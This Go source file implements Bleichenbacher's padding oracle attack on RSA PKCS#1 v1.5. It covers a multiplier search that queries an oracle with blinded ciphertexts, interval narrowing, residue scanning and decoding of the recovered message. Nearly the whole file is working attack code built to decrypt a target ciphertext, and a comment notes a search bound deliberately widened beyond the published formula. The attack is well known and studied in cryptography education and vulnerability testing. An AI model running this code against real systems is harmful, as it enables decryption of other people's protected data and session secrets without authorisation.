package app

import (
	"context"
	"crypto/rsa"
	"errors"
	"fmt"
	"math/big"

	"github.com/google/uuid"

	"padding_oracle_service/internal/domain/attack"
	"padding_oracle_service/internal/infrastructure/cryptography"
	"padding_oracle_service/internal/pkg/config"
	"padding_oracle_service/internal/pkg/logger"
)

var (
	one   = big.NewInt(1)
	two   = big.NewInt(2)
	three = big.NewInt(3)
)

// plaintextRecoveryService implements the PlaintextRecoveryService interface.
// It drives Bleichenbacher's interval-narrowing search: find a multiplier s
// the oracle accepts, narrow the candidate intervals with it, repeat until a
// single value remains.
type plaintextRecoveryService struct {
	publicKey *rsa.PublicKey
	oracle    attack.PaddingOracle
	settings  *config.AttackSettings
	logger    logger.Logger
}

// NewPlaintextRecoveryService creates a new plaintextRecoveryService instance
func NewPlaintextRecoveryService(
	publicKey *rsa.PublicKey,
	oracle attack.PaddingOracle,
	settings *config.AttackSettings,
	logger logger.Logger,
) (attack.PlaintextRecoveryService, error) {
	if publicKey == nil {
		return nil, errors.New("public key cannot be nil")
	}
	if oracle == nil {
		return nil, errors.New("oracle cannot be nil")
	}
	if err := settings.Validate(); err != nil {
		return nil, fmt.Errorf("invalid attack settings: %w", err)
	}
	return &plaintextRecoveryService{
		publicKey: publicKey,
		oracle:    oracle,
		settings:  settings,
		logger:    logger,
	}, nil
}

// multiplierSearch holds the blinded-query state shared by both search modes.
// Every candidate s costs one oracle query on (c0 * s^e) mod n; the budget
// converts a runaway search into an explicit error.
type multiplierSearch struct {
	oracle attack.PaddingOracle
	e      *big.Int
	n      *big.Int
	c0     *big.Int
	budget uint64
}

func (ms *multiplierSearch) accepts(s *big.Int) (bool, error) {
	if ms.budget == 0 {
		return false, fmt.Errorf("%w: no oracle queries left", attack.ErrOracleExhausted)
	}
	ms.budget--

	c := new(big.Int).Exp(s, ms.e, ms.n)
	c.Mul(c, ms.c0)
	c.Mod(c, ms.n)
	return ms.oracle.IsValid(c), nil
}

// findFrom scans s upward from sMin until the oracle accepts a candidate.
func (ms *multiplierSearch) findFrom(ctx context.Context, sMin *big.Int) (*big.Int, error) {
	s := new(big.Int).Set(sMin)
	for {
		if err := ctx.Err(); err != nil {
			return nil, err
		}
		ok, err := ms.accepts(s)
		if err != nil {
			return nil, err
		}
		if ok {
			return s, nil
		}
		s.Add(s, one)
	}
}

// findInRange scans [sMin, sMax] inclusive and returns nil when the oracle
// accepts no candidate, so the caller can retry with the next residue.
func (ms *multiplierSearch) findInRange(ctx context.Context, sMin, sMax *big.Int) (*big.Int, error) {
	for s := new(big.Int).Set(sMin); s.Cmp(sMax) <= 0; s.Add(s, one) {
		if err := ctx.Err(); err != nil {
			return nil, err
		}
		ok, err := ms.accepts(s)
		if err != nil {
			return nil, err
		}
		if ok {
			return new(big.Int).Set(s), nil
		}
	}
	return nil, nil
}

// Recover runs the adaptive chosen-ciphertext attack against the ciphertext
// integer and returns the decoded message bytes.
func (s *plaintextRecoveryService) Recover(ctx context.Context, ciphertext *big.Int) ([]byte, error) {
	if ciphertext == nil {
		return nil, errors.New("ciphertext cannot be nil")
	}

	sessionID := uuid.New().String()
	k := s.publicKey.Size()
	n := s.publicKey.N
	b := attack.BoundaryB(k)
	twoB := new(big.Int).Mul(two, b)
	threeB := new(big.Int).Mul(three, b)

	search := &multiplierSearch{
		oracle: s.oracle,
		e:      big.NewInt(int64(s.publicKey.E)),
		n:      n,
		c0:     new(big.Int).Set(ciphertext),
		budget: s.settings.MaxQueries,
	}

	s.logger.Info("Starting PKCS#1 v1.5 padding oracle attack, session ", sessionID)

	// s0 = 1: no blinding step, the ciphertext is already attacker-chosen.
	// Bootstrap multiplier: linear scan upward from ceil(n / 3B).
	intervals := attack.InitialSet(b)
	sCur, err := search.findFrom(ctx, attack.CeilDiv(n, threeB))
	if err != nil {
		return nil, fmt.Errorf("bootstrap multiplier search failed: %w", err)
	}
	intervals = intervals.Narrow(sCur, n, b)

	for i := 2; i <= s.settings.MaxIterations; i++ {
		switch len(intervals) {
		case 0:
			// The narrowing step never drops the true plaintext, so an empty
			// set means the oracle answered inconsistently.
			return nil, fmt.Errorf("interval set empty at iteration %d: %w", i, attack.ErrNonConvergence)
		case 1:
			m := intervals[0]
			if m.IsPoint() {
				s.logger.Info(fmt.Sprintf("Attack successful after %d iterations and %d oracle queries, session %s",
					i, s.oracle.Queries(), sessionID))
				return decodeRecovered(m.Lo, k)
			}
			sCur, err = s.searchSingleInterval(ctx, search, m, sCur, twoB, threeB, n)
		default:
			sCur, err = search.findFrom(ctx, new(big.Int).Add(sCur, one))
		}
		if err != nil {
			return nil, fmt.Errorf("multiplier search failed at iteration %d: %w", i, err)
		}

		intervals = intervals.Narrow(sCur, n, b)
		s.logger.Debug(fmt.Sprintf("iteration %d: %d interval(s), %d oracle queries, session %s",
			i, len(intervals), s.oracle.Queries(), sessionID))
	}

	return nil, fmt.Errorf("exceeded %d iterations: %w", s.settings.MaxIterations, attack.ErrNonConvergence)
}

// searchSingleInterval finds the next multiplier once a single interval
// [a, hi] remains. It seeds r = (2*hi*s - 4B) / n from the previous
// multiplier, then scans s over [ceil((2B + r*n)/hi), (3B - 1 + r*n + 1)/a],
// incrementing r whenever the scan comes up empty. The upper bound is one
// candidate wider than Bleichenbacher's published formula; the widened range
// converges faster and the oracle still gates every candidate.
func (s *plaintextRecoveryService) searchSingleInterval(
	ctx context.Context,
	search *multiplierSearch,
	iv attack.Interval,
	prev, twoB, threeB, n *big.Int,
) (*big.Int, error) {
	r := new(big.Int).Mul(two, iv.Hi)
	r.Mul(r, prev)
	r.Sub(r, new(big.Int).Mul(two, twoB)) // 4B
	r.Div(r, n)

	for attempt := 0; attempt < s.settings.MaxRangeRetries; attempt++ {
		rn := new(big.Int).Mul(r, n)

		sMin := attack.CeilDiv(new(big.Int).Add(twoB, rn), iv.Hi)
		sMax := new(big.Int).Add(threeB, rn) // 3B - 1 + r*n + 1
		sMax.Div(sMax, iv.Lo)

		found, err := search.findInRange(ctx, sMin, sMax)
		if err != nil {
			return nil, err
		}
		if found != nil {
			return found, nil
		}
		r.Add(r, one)
	}

	return nil, fmt.Errorf("no conforming multiplier within %d residue attempts: %w",
		s.settings.MaxRangeRetries, attack.ErrOracleExhausted)
}

// decodeRecovered turns the converged plaintext integer into the message
// bytes: left-pad to the modulus byte length, then strip the PKCS#1 framing.
func decodeRecovered(m *big.Int, k int) ([]byte, error) {
	em := cryptography.LeftPad(m.Bytes(), k)
	msg, err := cryptography.UnpadPKCS1v15(em)
	if err != nil {
		return nil, fmt.Errorf("recovered plaintext failed to decode: %w", err)
	}
	return msg, nil
}
